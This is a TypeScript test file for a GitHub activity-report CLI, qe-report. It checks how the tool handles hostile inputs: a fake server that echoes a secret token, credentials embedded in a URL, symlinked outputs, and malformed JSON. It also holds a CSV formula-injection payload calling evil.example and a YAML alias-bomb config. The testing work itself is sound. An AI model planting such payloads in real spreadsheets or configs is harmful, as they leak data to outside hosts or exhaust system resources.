import { spawn } from "node:child_process";
import { chmodSync, existsSync, lstatSync, readdirSync, readFileSync, readlinkSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { loadFixtureWorld, startHostileGitHub, type HostileGitHub, type HostileMode } from "@quantecon/fake-github";
import { afterEach, describe, expect, it } from "vitest";
import { run, tempDir } from "./cli-helpers.js";

const DEMO = fileURLToPath(new URL("../examples/quantecon/demo-2026-05.json", import.meta.url));
const demo = (): Record<string, unknown> & { commits: Record<string, unknown>[]; pullRequests: Record<string, unknown>[] } => JSON.parse(readFileSync(DEMO, "utf8"));

let cleanup: (() => void)[] = [];
afterEach(() => {
  for (const c of cleanup) c();
  cleanup = [];
});
function scratch(): string {
  const t = tempDir("qe-hostile-");
  cleanup.push(t.remove);
  return t.dir;
}
function write(dir: string, name: string, data: unknown): string {
  const path = join(dir, name);
  writeFileSync(path, typeof data === "string" ? data : JSON.stringify(data));
  return path;
}

describe("hostile dataset text in reports", () => {
  it("a git author named like a spreadsheet formula stays text in the CSV", async () => {
    const dir = scratch();
    const data = demo();
    data.commits[0]!["author"] = { login: null, name: '=HYPERLINK("https://evil.example/?"&A2,"x")', email: "a@b" };
    const r = await run(["monthly", "--input", write(dir, "d.json", data), "--format", "csv"]);
    expect(r.code).toBe(0);
    const cells = r.stdout.split("\r\n").flatMap((line) => line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/));
    expect(cells.some((c) => c.includes("HYPERLINK"))).toBe(true);
    for (const cell of cells) expect(cell.replace(/^"/, "")).not.toMatch(/^[=+@\t\r]/);
  });
});

describe("qe-report fetch against hostile servers", () => {
  const TOKEN = "ghp_CANARY_clihostile_00112233445566778899";
  let server: HostileGitHub | undefined;
  afterEach(async () => {
    await server?.close();
    server = undefined;
  });
  const fetchFrom = async (mode: HostileMode, extra: string[] = [], env: Record<string, string> = {}) => {
    server = await startHostileGitHub(mode, loadFixtureWorld(), { token: TOKEN });
    const dir = scratch();
    const r = await run(["fetch", "--org", "QuantEcon", "--month", "2026-05", "--out", join(dir, "d.json"), ...extra], { env: { GITHUB_TOKEN: TOKEN, GITHUB_GRAPHQL_URL: server.url, ...env } });
    const written = (() => {
      try {
        return readFileSync(join(dir, "d.json"), "utf8");
      } catch {
        return "";
      }
    })();
    return { ...r, written, requests: server.requests };
  };

  it("a server echoing the token in every error field: no line, warning or dataset field holds it", async () => {
    const r = await fetchFrom("echo", ["--allow-partial"]);
    expect(r.code).toBe(0);
    expect(r.stderr).toMatch(/fetch: warning: incomplete: /);
    expect(r.written).toContain("[REDACTED]");
    for (const text of [r.stdout, r.stderr, r.written]) expect(text).not.toContain(TOKEN);
  });

  it("without --allow-partial the missing lines are redacted too, exit 1", async () => {
    const r = await fetchFrom("echo");
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/fetch: missing: /);
    expect(r.stderr).not.toContain(TOKEN);
  });

  it("a looping server: under 100 requests, one line naming the query, exit 1", async () => {
    const r = await fetchFrom("loop-cursor");
    expect(r.requests).toBeLessThan(100);
    expect(r.code).toBe(1);
    expect(r.stderr.trim().split("\n").at(-1)).toMatch(/^qe-report: paging of the ListRepositories query for the repositories of QuantEcon stopped: /);
  });

  it("credentials in GITHUB_GRAPHQL_URL never print; the URL is refused, exit 2", async () => {
    const r = await run(["fetch", "--org", "QuantEcon", "--month", "2026-05", "--out", join(scratch(), "d.json")], {
      env: { GITHUB_TOKEN: TOKEN, GITHUB_GRAPHQL_URL: "https://robot:hunter2-secret@ghe.example/api/graphql" },
    });
    expect(r.code).toBe(2);
    expect(r.stderr).not.toMatch(/hunter2-secret|robot:/);
    expect(r.stderr).toContain("https://ghe.example/api/graphql");
  });

  it("an invalid endpoint URL is exit 2 at once, not 25 s of retries", async () => {
    const started = Date.now();
    const r = await run(["fetch", "--org", "QuantEcon", "--month", "2026-05", "--out", join(scratch(), "d.json")], { env: { GITHUB_TOKEN: TOKEN, GITHUB_GRAPHQL_URL: "htp:/nowhere" } });
    expect(r.code).toBe(2);
    expect(r.stderr.trim().split("\n")).toHaveLength(1);
    expect(Date.now() - started).toBeLessThan(2000);
  });

  it("plain http off this machine is refused without --insecure, and warned about with it", async () => {
    const env = { GITHUB_TOKEN: TOKEN, GITHUB_GRAPHQL_URL: "http://ghe.invalid/api/graphql" };
    const refused = await run(["fetch", "--org", "QuantEcon", "--month", "2026-05", "--out", join(scratch(), "d.json")], { env });
    expect(refused.code).toBe(2);
    expect(refused.stderr).toMatch(/plain http on another machine \(ghe\.invalid\).*--insecure/);
    const report = await run(["monthly", "--org", "QuantEcon", "--month", "2026-05"], { env });
    expect(report.code).toBe(2);
    expect(report.stderr).toMatch(/unencrypted/);
  });
});

describe("--out keeps what is already there", () => {
  it("writes through a symlink: the link stays, its target gets the report", async () => {
    const dir = scratch();
    const target = write(dir, "target.md", "old");
    symlinkSync(target, join(dir, "link.md"));
    const r = await run(["monthly", "--demo", "--out", join(dir, "link.md")]);
    expect(r.code).toBe(0);
    expect(lstatSync(join(dir, "link.md")).isSymbolicLink()).toBe(true);
    expect(readlinkSync(join(dir, "link.md"))).toBe(target);
    expect(readFileSync(target, "utf8")).toMatch(/^# QuantEcon activity report/);
  });

  it("a dangling symlink is refused, exit 2", async () => {
    const dir = scratch();
    symlinkSync(join(dir, "nowhere.md"), join(dir, "link.md"));
    const r = await run(["monthly", "--demo", "--out", join(dir, "link.md")]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/symbolic link to a file that does not exist/);
  });

  it("keeps a 0600 file 0600", async () => {
    const dir = scratch();
    const out = write(dir, "private.md", "old");
    chmodSync(out, 0o600);
    expect((await run(["monthly", "--demo", "--out", out])).code).toBe(0);
    expect(statSync(out).mode & 0o777).toBe(0o600);
    expect(readFileSync(out, "utf8")).toMatch(/^# QuantEcon/);
  });

  it("refuses a device", async () => {
    const r = await run(["monthly", "--demo", "--out", "/dev/null"]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/--out \/dev\/null: is not a regular file/);
    expect(statSync("/dev/null").isCharacterDevice()).toBe(true);
  });

  it("refuses to overwrite the dataset it reads (also through another name)", async () => {
    const dir = scratch();
    const input = write(dir, "d.json", readFileSync(DEMO, "utf8"));
    symlinkSync(input, join(dir, "alias.json"));
    for (const out of [input, join(dir, "alias.json")]) {
      const r = await run(["monthly", "--input", input, "--out", out]);
      expect(r.code).toBe(2);
      expect(r.stderr).toMatch(/is the same file as --input/);
    }
    expect(readFileSync(input, "utf8")).toBe(readFileSync(DEMO, "utf8"));
  });

  it("removes the temp files of an earlier run that was killed outright", async () => {
    const dir = scratch();
    const stale = write(dir, ".report.md.999999.0123abcd.tmp", "half");
    const other = write(dir, ".unrelated.999999.0123abcd.tmp", "not ours");
    expect((await run(["monthly", "--demo", "--out", join(dir, "report.md")])).code).toBe(0);
    expect(existsSync(stale)).toBe(false);
    expect(existsSync(other)).toBe(true);
  });

  it("an interrupted write (SIGTERM) leaves no temp file and the old file intact", async () => {
    const dir = scratch();
    const out = write(dir, "big.json", "old");
    const script = `import { writeFileAtomic } from ${JSON.stringify(fileURLToPath(new URL("../packages/qe-report/src/json-file.ts", import.meta.url)))};
function* forever() { for (;;) yield "x".repeat(4096); }
await writeFileAtomic(${JSON.stringify(out)}, forever(), "/");`;
    const child = spawn(process.execPath, ["--import", "tsx", "--input-type=module", "-e", script], { stdio: "ignore" });
    const temps = () => readdirSync(dir).filter((n) => n.endsWith(".tmp"));
    for (let i = 0; i < 300 && temps().length === 0; i++) await new Promise((r) => setTimeout(r, 50));
    expect(temps()).toHaveLength(1);
    const exited = new Promise<NodeJS.Signals | null>((resolve) => child.on("exit", (_code, signal) => resolve(signal)));
    child.kill("SIGTERM");
    expect(await exited).toBe("SIGTERM");
    expect(temps()).toEqual([]);
    expect(readFileSync(out, "utf8")).toBe("old");
  }, 30_000);
});

describe("crash classes become one line", () => {
  const oneLine = (r: { stderr: string }) => expect(r.stderr.trim().split("\n")).toHaveLength(1);

  it("a truncated, deeply nested dataset: exit 2, not a stack overflow", async () => {
    const r = await run(["monthly", "--input", write(scratch(), "deep.json", "[".repeat(200_000))]);
    expect(r.code).toBe(2);
    oneLine(r);
    expect(r.stderr).toMatch(/^qe-report: deep\.json:1:200001: invalid JSON: .*\(the file ends too early\)/);
  });

  it("a dataset written with a byte-order mark reads as without one", async () => {
    const r = await run(["monthly", "--input", write(scratch(), "bom.json", `\uFEFF${readFileSync(DEMO, "utf8")}`), "--format", "json"]);
    expect(r.code).toBe(0);
  });

  it("1e400 is named as too large, not as 'expected a number, got a number'", async () => {
    const data = demo();
    data.commits[0]!["parents"] = 1;
    const text = JSON.stringify(data).replace('"parents":1', '"parents":1e400');
    const r = await run(["monthly", "--input", write(scratch(), "inf.json", text)]);
    expect(r.code).toBe(2);
    oneLine(r);
    expect(r.stderr).toMatch(/dataset\.commits\[0\]\.parents: expected a number, got a number too large to hold \(Infinity\)/);
  });

  it("a dataset window in a zone that does not exist: exit 2 naming the field, not NaN-NaN-NaN", async () => {
    const data = demo() as ReturnType<typeof demo> & { window: Record<string, string> };
    data.window["timeZone"] = "Mars/Olympus";
    const r = await run(["monthly", "--input", write(scratch(), "tz.json", data)]);
    expect(r.code).toBe(2);
    oneLine(r);
    expect(r.stderr).toMatch(/dataset\.window\.timeZone: expected an IANA time zone/);
    expect(r.stdout).not.toContain("NaN");
  });

  it("a config whose YAML aliases explode: exit 2, one line", async () => {
    const lines = ["a: &a [x, x, x, x, x, x, x, x, x, x]"];
    for (let i = 1; i < 10; i++) lines.push(`l${i}: &l${i} [${Array(10).fill(i === 1 ? "*a" : `*l${i - 1}`).join(", ")}]`);
    const r = await run(["monthly", "--demo", "--config", write(scratch(), "bomb.yaml", lines.join("\n"))]);
    expect(r.code).toBe(2);
    oneLine(r);
    expect(r.stderr).toMatch(/^qe-report: bomb\.yaml: its YAML aliases expand to too many values/);
  });
});
